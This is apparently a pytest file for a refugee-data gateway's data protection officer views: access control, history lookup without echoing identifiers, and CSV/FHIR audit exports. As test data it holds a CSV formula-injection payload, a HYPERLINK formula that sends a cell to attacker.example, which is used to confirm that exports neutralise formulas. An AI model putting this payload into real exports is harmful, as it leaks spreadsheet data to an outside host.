"""The data protection officer's views over HTTP, on a served gateway with the demo systems.

Births are sent as proGres sends them (two allowed to the civil registry, one denied to the
embassy of the parents' country of origin) and the civil registry's confirmation comes back
naming the child by two proGres identifiers, which the gateway links. Then every view is
asked: only with the DPO's token, never with an identifier in a URL, and never answering,
logging or keeping an identifier the DPO gave.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from fhir.resources.R4B.bundle import Bundle
from sqlalchemy import column, inspect, select, table

from gateway.audit.disclosures import AUTHZ_CONSENT, PRIVACY_DISCLOSURE, safe_cell
from gateway.config import Settings
from gateway.demo.flow import (
    CIVIL_REGISTRY,
    EMBASSY,
    PROGRES_SYSTEM,
    REGISTRATION,
    DemoEnvironment,
    demo_data,
    envelope_headers,
)
from gateway.demo.server import ServedGateway
from gateway.runtime import Runtime
from tests.api.helpers import BODY_LIMIT, admin_headers, system_headers

CONTROLLER = '=HYPERLINK("http://attacker.example/?"&A1,"UNHCR")'
"""The controller's name as configured: a formula, which no CSV export may let run."""
CHILD, MOTHER = "KKM-25-001234", "KKM-19-004567"
LINKED = "KKM-26-777777"
"""A second proGres id the civil registry's confirmation gives the child: linked to the first."""
UNKNOWN = "KKM-00-424242"
"""An identifier no exchange ever carried: given to the DPO's view only."""
GETS = [
    "/dpo/exchanges",
    "/dpo/register",
    "/dpo/register.csv",
    "/dpo/denials",
    "/dpo/transfers",
    "/dpo/exchanges.csv",
    "/dpo/exchanges.fhir",
]
HISTORY = "/dpo/subjects/history"


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """The API tests' settings (relay and appender off), with a controller to show."""
    return settings.model_copy(update={"controller": CONTROLLER})


def dpo_headers(runtime: Runtime) -> dict[str, str]:
    return {"Authorization": f"Bearer {runtime.settings.resolved_dpo_token()}"}


@dataclass(frozen=True)
class Sent:
    """The exchanges sent, oldest first."""

    civil: str
    embassy: str
    civil_again: str
    confirmation: str

    @property
    def newest_first(self) -> list[str]:
        return [self.confirmation, self.civil_again, self.embassy, self.civil]


def confirmation(env: DemoEnvironment) -> httpx.Response:
    """The civil registry's answer, naming the child by two proGres identifiers."""
    body = json.loads(demo_data("opencrvs-registered-birth.json"))
    body.pop("_comment", None)
    for entry in body["entry"]:
        resource = entry["resource"]
        if resource["resourceType"] == "Patient" and any(
            i.get("system") == PROGRES_SYSTEM for i in resource.get("identifier", [])
        ):
            resource["identifier"] = [
                {"system": PROGRES_SYSTEM, "value": CHILD},
                {"system": PROGRES_SYSTEM, "value": LINKED},
            ]
    headers = envelope_headers(
        REGISTRATION, "birth-registration-confirmation", "public-interest", "brn-dpo-test-0001"
    )
    headers |= {
        **system_headers(env, CIVIL_REGISTRY),
        "Content-Type": "application/fhir+json",
    }
    return httpx.post(
        f"{env.gateway_url}/exchanges", content=json.dumps(body), headers=headers, timeout=30
    )


@pytest.fixture
def sent(env: DemoEnvironment) -> Sent:
    answers = [env.submit_birth(d) for d in (CIVIL_REGISTRY, EMBASSY, CIVIL_REGISTRY)]
    answers.append(confirmation(env))
    assert [a.status_code for a in answers] == [202, 403, 202, 202], [a.text for a in answers]
    return Sent(*(a.json()["exchange_id"] for a in answers))


@pytest.fixture
def answers() -> list[httpx.Response]:
    """Every answer a test got from the DPO's views, checked for identifiers at the end."""
    return []


@pytest.fixture
def ask(served: ServedGateway, answers: list[httpx.Response]) -> Any:
    def call(method: str, path: str, **request: Any) -> httpx.Response:
        headers = {**dpo_headers(served.runtime), **request.pop("headers", {})}
        answer = httpx.request(
            method, f"{served.url}{path}", headers=headers, timeout=60, **request
        )
        answers.append(answer)
        return answer

    return call


def history(ask: Any, value: str, scheme: str = "progres-individual", **query: Any) -> Any:
    return ask("POST", HISTORY, json={"scheme": scheme, "value": value, **query})


def listed(answer: httpx.Response) -> list[str]:
    assert answer.status_code == 200, answer.text
    return [e["exchange_id"] for e in answer.json()["exchanges"]]


def stored_rows(runtime: Runtime) -> dict[str, list[str]]:
    """Every row of every table, as text: what a copy of the database would show."""
    engine = runtime.db.engine
    tables = inspect(engine)
    found = {}
    with engine.connect() as connection:
        for name in tables.get_table_names():
            columns = [column(c["name"]) for c in tables.get_columns(name)]
            rows = connection.execute(select(*columns).select_from(table(name)))
            found[name] = sorted(repr(tuple(row)) for row in rows)
    return found


# --- who may ask ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [*GETS, HISTORY])
def test_only_the_dpo_may_ask(served: ServedGateway, env: DemoEnvironment, path: str) -> None:
    method = "POST" if path == HISTORY else "GET"
    body = {"json": {"scheme": "progres-individual", "value": CHILD}} if path == HISTORY else {}

    def status(headers: dict[str, str]) -> int:
        return httpx.request(method, f"{served.url}{path}", headers=headers, **body).status_code

    assert status(admin_headers(served.runtime)) == 403
    assert status(system_headers(env, REGISTRATION)) == 403
    assert status(system_headers(env, CIVIL_REGISTRY)) == 403
    assert status({}) == 401
    assert status({"Authorization": "Bearer not-a-token"}) == 401
    assert status(dpo_headers(served.runtime)) == 200


# --- the listing --------------------------------------------------------------------------------


def test_the_listing_keeps_what_every_filter_given_matches(ask: Any, sent: Sent) -> None:
    def found(**query: str) -> list[str]:
        return listed(ask("GET", "/dpo/exchanges", params=query))

    assert found() == sent.newest_first
    assert found(recipient=CIVIL_REGISTRY) == [sent.civil_again, sent.civil]
    assert found(jurisdiction="SSD") == [sent.embassy]
    assert found(recipient=REGISTRATION, jurisdiction="UNO") == [sent.confirmation]
    assert found(decision="denied") == [sent.embassy]
    assert found(source=CIVIL_REGISTRY) == [sent.confirmation]
    assert found(purpose="birth-registration", decision="allowed") == [
        sent.confirmation,
        sent.civil_again,
        sent.civil,
    ]
    assert found(purpose="statistics") == []
    page = ask("GET", "/dpo/exchanges", params={"limit": 3}).json()
    assert page["next_cursor"] is not None
    rest = found(cursor=page["next_cursor"])
    assert [e["exchange_id"] for e in page["exchanges"]] + rest == sent.newest_first


# --- one person's history -----------------------------------------------------------------------


def test_a_person_is_found_under_any_spelling_and_any_linked_identifier(
    ask: Any, sent: Sent
) -> None:
    about_child = sent.newest_first  # the child is in every birth and in the confirmation
    assert listed(history(ask, CHILD)) == about_child
    assert listed(history(ask, "kkm 25 001234")) == about_child  # as the scheme compares
    assert listed(history(ask, "KKM25001234", scheme=" PROGRES-Individual")) == about_child
    assert listed(history(ask, LINKED)) == about_child  # linked by the confirmation
    assert listed(history(ask, MOTHER)) == [sent.civil_again, sent.embassy, sent.civil]
    assert listed(history(ask, CHILD, decision="denied")) == [sent.embassy]
    assert listed(history(ask, CHILD, recipient=REGISTRATION)) == [sent.confirmation]
    assert listed(history(ask, CHILD, since="2000-01-01T00:00:00-05:00")) == about_child
    assert listed(history(ask, CHILD, until="2000-01-01T00:00:00+05:30")) == []
    page = history(ask, CHILD, limit=3).json()
    assert listed(history(ask, CHILD, cursor=page["next_cursor"])) == [sent.civil]


def test_an_unknown_person_gets_the_same_shape_of_answer(ask: Any, sent: Sent) -> None:
    known, unknown = history(ask, CHILD), history(ask, UNKNOWN)
    assert unknown.status_code == known.status_code == 200
    assert unknown.json() == {"exchanges": [], "next_cursor": None}
    assert set(unknown.json()) == set(known.json())
    assert unknown.headers["content-type"] == known.headers["content-type"]


def test_no_identifier_the_dpo_gives_is_answered_logged_or_kept(
    served: ServedGateway,
    ask: Any,
    sent: Sent,
    answers: list[httpx.Response],
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    before = stored_rows(served.runtime)
    asked = [UNKNOWN, "kkm 25 001234", LINKED]
    for value in asked:
        assert history(ask, value).status_code == 200
    for value in (f"{UNKNOWN}\x1b[2J", "x" * 129, "---"):  # refused: still never repeated
        assert history(ask, value).status_code == 422
        asked.append(value)
    ask("GET", "/dpo/exchanges.csv")
    ask("GET", "/dpo/exchanges.fhir")

    assert stored_rows(served.runtime) == before  # asking wrote nothing
    unknown_pseudonym = served.runtime.pseudonymiser.pseudonym("progres-individual", "KKM00424242")
    stored = json.dumps(before)
    assert unknown_pseudonym not in stored
    forms = {v for v in asked if v.strip("-")} | {"KKM00424242", "KKM-00-424242"}
    texts = [a.text for a in answers] + [json.dumps(dict(a.headers)) for a in answers]
    logged = [caplog.text] + [repr(vars(r)) for r in caplog.records]
    for form in forms:
        assert not any(form in t for t in texts), form
        assert not any(form in t for t in logged), form
        assert form not in stored, form


# --- the register, the denials, the chart --------------------------------------------------


def test_the_register_lists_each_kind_of_transfer(ask: Any, sent: Sent) -> None:
    register = ask("GET", "/dpo/register")
    assert register.status_code == 200
    lines = {(e["recipient"], e["purpose"], e["legal_basis"]): e for e in register.json()}
    assert set(lines) == {
        (CIVIL_REGISTRY, "birth-registration", "consent"),
        (REGISTRATION, "birth-registration", "public-interest"),
    }
    births = lines[CIVIL_REGISTRY, "birth-registration", "consent"]
    assert births["count"] == 2 and births["third_country"] is None
    assert births["controller"] == CONTROLLER
    assert births["rules"] and "3650 days" in births["retention"]
    back = lines[REGISTRATION, "birth-registration", "public-interest"]
    assert back["count"] == 1 and back["third_country"] == "UNO"  # UNHCR: not the host state
    assert ask("GET", "/dpo/register", params={"until": "2000-01-01T00:00:00Z"}).json() == []


def test_denials_and_transfers(ask: Any, sent: Sent) -> None:
    report = ask("GET", "/dpo/denials").json()
    assert report["total"] == 1
    assert report["by_reason"] == [
        {
            "reason": "origin.risk_country",
            "words": "the destination is controlled by a state where a subject is at risk",
            "count": 1,
        }
    ]
    assert report["by_recipient"] == [{"recipient": EMBASSY, "count": 1}]
    assert [e["exchange_id"] for e in report["recent"]] == [sent.embassy]
    daily = ask("GET", "/dpo/transfers").json()
    weekly = ask("GET", "/dpo/transfers", params={"bucket": "week"}).json()
    assert {(c["recipient"], c["count"]) for c in daily} == {(CIVIL_REGISTRY, 2), (REGISTRATION, 1)}
    assert {(c["recipient"], c["count"]) for c in weekly} == {
        (CIVIL_REGISTRY, 2),
        (REGISTRATION, 1),
    }


# --- exports ---------------------------------------------------------------------------------


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.count(b"\r\n") >= 1  # RFC 4180 lines
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))


def test_the_csv_exports_say_what_the_listing_says(ask: Any, sent: Sent) -> None:
    exported = rows(ask("GET", "/dpo/exchanges.csv"))
    listing = ask("GET", "/dpo/exchanges").json()["exchanges"]
    assert [r["exchange_id"] for r in exported] == sent.newest_first
    for row, exchange in zip(exported, listing, strict=True):
        assert row["subjects"].split() == exchange["subjects"]
        assert row["decision"] == exchange["decision"]
        assert row["policy_rule"] == (exchange["policy_rule"] or "")
        assert row["delivery_status"] == ((exchange["delivery"] or {}).get("status") or "")
    only_denied = rows(ask("GET", "/dpo/exchanges.csv", params={"decision": "denied"}))
    assert [r["exchange_id"] for r in only_denied] == [sent.embassy]


def test_no_csv_cell_can_run_as_a_formula(ask: Any, sent: Sent) -> None:
    register = rows(ask("GET", "/dpo/register.csv"))
    assert register and {r["controller"] for r in register} == {"'" + CONTROLLER}
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert safe_cell("p, a, b") == "p, a, b" and safe_cell(None) == "" and safe_cell(3) == "3"


def test_an_export_cut_at_its_limit_says_where_the_next_part_starts(ask: Any, sent: Sent) -> None:
    first = ask("GET", "/dpo/exchanges.csv", params={"limit": 3})
    assert first.headers["X-Export-Count"] == "3"
    cursor = first.headers["X-Export-Next-Cursor"]
    assert f"cursor={cursor}" in first.headers["Link"] and 'rel="next"' in first.headers["Link"]
    rest = ask("GET", "/dpo/exchanges.csv", params={"limit": 3, "cursor": cursor})
    assert "X-Export-Next-Cursor" not in rest.headers
    together = [r["exchange_id"] for r in rows(first) + rows(rest)]
    assert together == sent.newest_first
    bundle = ask("GET", "/dpo/exchanges.fhir", params={"limit": 1}).json()
    assert bundle["link"][0]["relation"] == "next"
    assert "cursor=" in bundle["link"][0]["url"]


def test_the_fhir_export_is_balp_audit_events_that_validate(
    served: ServedGateway, ask: Any, sent: Sent
) -> None:
    answer = ask("GET", "/dpo/exchanges.fhir")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/fhir+json"
    bundle = answer.json()
    Bundle.model_validate(bundle)  # FHIR R4B (R4's AuditEvent), as BALP is written for R4
    listing = {e["exchange_id"]: e for e in ask("GET", "/dpo/exchanges").json()["exchanges"]}
    events = [entry["resource"] for entry in bundle["entry"]]
    assert len(events) == sum(len(e["subjects"]) for e in listing.values())
    assert len({entry["fullUrl"] for entry in bundle["entry"]}) == len(events)
    for event in events:
        exchange = listing[_detail(event, "exchange-id")]
        agents = {a["type"]["coding"][0]["code"]: a for a in event["agent"]}
        patient = next(e for e in event["entity"] if e["type"]["code"] == "1")
        assert patient["role"]["code"] == "1"
        assert patient["what"]["identifier"]["value"] in exchange["subjects"]
        assert event["purposeOfEvent"][0]["coding"][0]["code"] == exchange["purpose"]
        if exchange["decision"] == "allowed":
            assert event["meta"]["profile"] == [PRIVACY_DISCLOSURE]
            assert (event["type"]["code"], event["action"], event["outcome"]) == (
                "110106",
                "R",
                "0",
            )
            assert event["subtype"][0]["code"] == "disclose"
            assert agents["110153"]["who"] == event["source"]["observer"]  # val-audit-source
            assert agents["110152"]["who"]["identifier"]["value"] == exchange["destination"]
            assert agents["159541003"]["who"]["identifier"]["value"] == exchange["source"]
            assert all("network" in agents[code] for code in ("110153", "110152"))
        else:
            assert event["meta"]["profile"] == [AUTHZ_CONSENT]
            assert (event["type"]["code"], event["action"], event["outcome"]) == (
                "110113",
                "E",
                "8",
            )
            assert event["subtype"][0]["code"] == "AuthZ-Consent"
            assert "origin.risk_country" in event["outcomeDesc"]
            assert agents["authserver"]["who"] == event["source"]["observer"]
            assert agents["IRCP"]["who"]["identifier"]["value"] == EMBASSY
            assert agents["110150"]["who"]["identifier"]["value"] == REGISTRATION
    again = ask("GET", "/dpo/exchanges.fhir").json()
    assert [e["fullUrl"] for e in again["entry"]] == [e["fullUrl"] for e in bundle["entry"]]


def _detail(event: dict[str, Any], name: str) -> str:
    for entity in event["entity"]:
        for detail in entity.get("detail", []):
            if detail["type"] == name:
                return str(detail["valueString"])
    raise AssertionError(f"no {name} detail")


# --- bad input ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "query", "named"),
    [
        ("/dpo/exchanges", {"subject": CHILD}, "subject"),  # nobody browses people
        ("/dpo/exchanges", {"destination": CIVIL_REGISTRY}, "destination"),  # it is `recipient`
        ("/dpo/exchanges", {"limit": "501"}, "limit"),
        ("/dpo/exchanges", {"since": "yesterday"}, "since"),
        ("/dpo/exchanges", {"until": "2026-12-01T00:00:00"}, "until"),  # which zone?
        ("/dpo/exchanges", {"jurisdiction": "Atlantis"}, "jurisdiction"),
        ("/dpo/exchanges", {"since": "9999-12-31T23:00:00-05:00"}, "since"),  # year 10000 in UTC
        ("/dpo/denials", {"until": "0001-01-01T00:00:00+05:00"}, "until"),  # year 0 in UTC
        ("/dpo/exchanges.csv", {"limit": "10001"}, "limit"),
        ("/dpo/exchanges.fhir", {"limit": "1001"}, "limit"),
        ("/dpo/register", {"since": "1764547200"}, "since"),
        ("/dpo/register.csv", {"recipient": CIVIL_REGISTRY}, "recipient"),
        ("/dpo/denials", {"limit": "100000"}, "limit"),
        ("/dpo/transfers", {"bucket": "month"}, "bucket"),
    ],
)
def test_bad_filters_are_refused_and_named(
    ask: Any, env: DemoEnvironment, path: str, query: dict[str, str], named: str
) -> None:
    answer = ask("GET", path, params=query)
    assert answer.status_code == 422, answer.text
    body = answer.json()
    assert body["reason"] == "invalid_input"
    assert any(named in p["location"] for p in body["problems"]), body


def test_a_period_that_runs_backwards_is_refused(ask: Any, env: DemoEnvironment) -> None:
    backwards = {"since": "2026-12-02T00:00:00Z", "until": "2026-12-01T00:00:00Z"}
    for path in ("/dpo/exchanges", "/dpo/register", "/dpo/denials", "/dpo/transfers"):
        answer = ask("GET", path, params=backwards)
        assert answer.status_code == 422, path
        assert "since must be before until" in answer.text


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b'{"scheme": "progres-individual", "value": "' + b"K" * (1 << 20) + b'"}', 413),
        (json.dumps({"scheme": "progres-individual", "value": "KKM\x00-25"}).encode(), 422),
        (json.dumps({"scheme": "progres\u202e-individual", "value": CHILD}).encode(), 422),
        (json.dumps({"scheme": "progres-individual", "value": "K" * 129}).encode(), 422),
        (json.dumps({"scheme": "progres-individual"}).encode(), 422),
        (json.dumps({"scheme": "progres-individual", "value": CHILD, "x": 1}).encode(), 422),
        (json.dumps({"scheme": "progres-individual", "value": CHILD, "limit": 501}).encode(), 422),
        (b'{"scheme": "progres-individual", "value": ', 422),
        (b'{"scheme": "progres-individual", "value": "\xff"}', 422),
    ],
)
def test_a_bad_history_request_is_refused_and_changes_nothing(
    served: ServedGateway, ask: Any, sent: Sent, body: bytes, status: int
) -> None:
    assert len(body) < BODY_LIMIT or status == 413
    before = stored_rows(served.runtime)
    answer = ask("POST", HISTORY, content=body, headers={"Content-Type": "application/json"})
    assert answer.status_code == status, answer.text[:300]
    assert answer.json()["reason"] in ("invalid_input", "payload_too_large")
    assert CHILD not in answer.text and "KKM\x00" not in answer.text
    assert stored_rows(served.runtime) == before


@pytest.fixture(autouse=True)
def _nothing_leaked(answers: list[httpx.Response]) -> Iterator[None]:
    """No answer of any test here holds the proGres identifiers sent in the messages."""
    yield
    for answer in answers:
        for value in (CHILD, MOTHER, LINKED, "KKM25001234", "KKM26777777"):
            assert value not in answer.text, answer.request.url
